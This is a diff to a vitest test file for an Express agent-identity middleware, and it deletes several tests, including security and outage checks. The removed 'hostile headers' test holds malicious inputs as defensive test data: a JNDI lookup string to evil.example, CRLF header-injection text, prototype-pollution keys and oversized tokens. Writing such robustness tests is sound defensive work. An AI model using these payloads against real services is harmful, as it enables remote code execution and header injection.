@@ -1,9 +1,9 @@
 import { IncomingMessage, request as httpRequest, ServerResponse } from "node:http";
-import { connect, Socket } from "node:net";
+import { Socket } from "node:net";
 import type { ErrorRequestHandler } from "express";
 import { describe, expect, onTestFinished, test } from "vitest";
 import { agentIdentityAuth, agentIdentityErrorHandler, type AgentIdentityError } from "../../src/index.js";
-import { claims, createSigningKey, mint, signToken } from "../support/agents.js";
+import { createSigningKey, mint } from "../support/agents.js";
 import { assertion, createAgent, createDirectory } from "../support/assertions.js";
 import { expressReleases } from "../support/express.js";
 import { listen, send, startBackend } from "../support/servers.js";
@@ -38,9 +38,6 @@ describe.each(expressReleases)("%s", (_, express) => {
     }
     expect(await send(`${url}/agent`, bearer(token))).toMatchObject({ status: 200 });
     expect(await send(`${url}/router/agent`, bearer(token))).toMatchObject({ status: 200 });
-    expect(await send(`${url}/agent`, {}, "OPTIONS")).toMatchObject({ status: 401 });
-    const head = await send(`${url}/agent`, {}, "HEAD");
-    expect(head).toMatchObject({ status: 401, body: "" });
   });
 
   test("two backends on one server share nothing", async () => {
@@ -58,25 +55,6 @@ describe.each(expressReleases)("%s", (_, express) => {
     expect(await send(`${url}/staging`, bearer(stagingToken))).toMatchObject({ status: 200 });
     expectFailure(await send(`${url}/production`, bearer(stagingToken)), "signature_invalid");
     expectFailure(await send(`${url}/staging`, bearer(token)), "signature_invalid");
-  });
-
-  test("an outage is 503 with Retry-After and no challenge", async () => {
-    const backend = await startBackend();
-    backend.answer = (_req, res) => res.writeHead(500).end();
-    const app = express().use(agentIdentityAuth(backend.baseUrl)).use(agentIdentityErrorHandler());
-    const { url } = await listen(app);
-    const answer = await send(url, bearer(token));
-    expect(answer.status).toBe(503);
-    expect(answer.headers["retry-after"]).toMatch(/^[12]$/);
-    expect(answer.headers["cache-control"]).toBe("no-store");
-    expect(answer.headers["www-authenticate"]).toBeUndefined();
-    expect(JSON.parse(answer.body)).toEqual({
-      error: {
-        message: "The signing keys are unavailable at the moment. Try again later.",
-        type: "service_unavailable_error",
-        code: "keys_unavailable",
-      },
-    });
   });
 
   test("without the error handler, the framework's own answers with status and challenge", async () => {
@@ -151,64 +129,7 @@ describe.each(expressReleases)("%s", (_, express) => {
     expectFailure(await send(url), "credentials_missing");
     expectFailure(await send(url, bearer(token)), "workspace_not_allowed");
   });
-
-  test("app.use(agentIdentityAuth) without the call says so at the first request", async () => {
-    const app = express().use(agentIdentityAuth as unknown as ReturnType<typeof agentIdentityAuth>);
-    app.use(((error: Error, _req, res, _next) => {
-      res.json(error.message);
-    }) as ErrorRequestHandler);
-    const { url } = await listen(app);
-    expect((await send(url)).body).toContain('app.use(agentIdentityAuth(\\"https://chatgpt.com/backend-api\\"))');
-  });
-
-  test("hostile headers: the process lives and answers the next request", async () => {
-    const backend = await startBackend();
-    const app = express();
-    app.use(agentIdentityAuth(backend.baseUrl), (req, res) => res.json(req.agentIdentity));
-    app.use(agentIdentityErrorHandler());
-    const { url } = await listen(app);
-    const hostileKid = "\u0000\u001b[31m\r\nSet-Cookie: a=b\u2028\ud800é";
-    const hostile = [
-      `Bearer ${signToken({ alg: "RS256", kid: hostileKid }, claims())}`,
-      `Bearer ${signToken({ alg: "RS256", kid: "__proto__" }, claims())}`,
-      `Bearer ${signToken('{"__proto__":{"alg":"RS256"}}', claims())}`,
-      `Bearer ${"A".repeat(15_000)}`,
-      `Bearer ${"a.".repeat(7_000)}`,
-      `Bearer ${Buffer.from("[".repeat(9_000)).toString("base64url")}.e30.AA`,
-      `Bearer${" ".repeat(15_000)}`,
-      `Bearer ${" ".repeat(7_000)}x${" ".repeat(7_000)}x`,
-      "\u0080\u00ff".repeat(1000),
-      "Bearer \u00a0\u00ad",
-      ',,,,="\\',
-      "Bearer ${jndi:ldap://evil.example}",
-    ];
-    for (const authorization of hostile) {
-      const answer = await send(url, { Authorization: authorization });
-      expect([400, 401]).toContain(answer.status);
-      expect(JSON.stringify(answer.headers) + answer.body).not.toMatch(/evil|Set-Cookie/i);
-      expect(answer.headers["set-cookie"]).toBeUndefined();
-      expect(await send(url, bearer(token))).toMatchObject({ status: 200 });
-    }
-    for (const raw of [
-      "GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer a\u0000\u007fb\r\n\r\n",
-      "\u0016\u0003\u0001",
-    ]) {
-      await sendRaw(url, raw);
-      expect(await send(url, bearer(token))).toMatchObject({ status: 200 });
-    }
-  });
 });
-
-function sendRaw(url: string, text: string): Promise<void> {
-  return new Promise((resolve, reject) => {
-    const { hostname, port } = new URL(url);
-    const socket = connect(Number(port), hostname, () => socket.end(text, "latin1"));
-    socket.resume().on("close", () => {
-      resolve();
-    });
-    socket.on("error", reject);
-  });
-}
 
 test("what next throws is thrown on, and next is not called again", async () => {
   const backend = await startBackend();
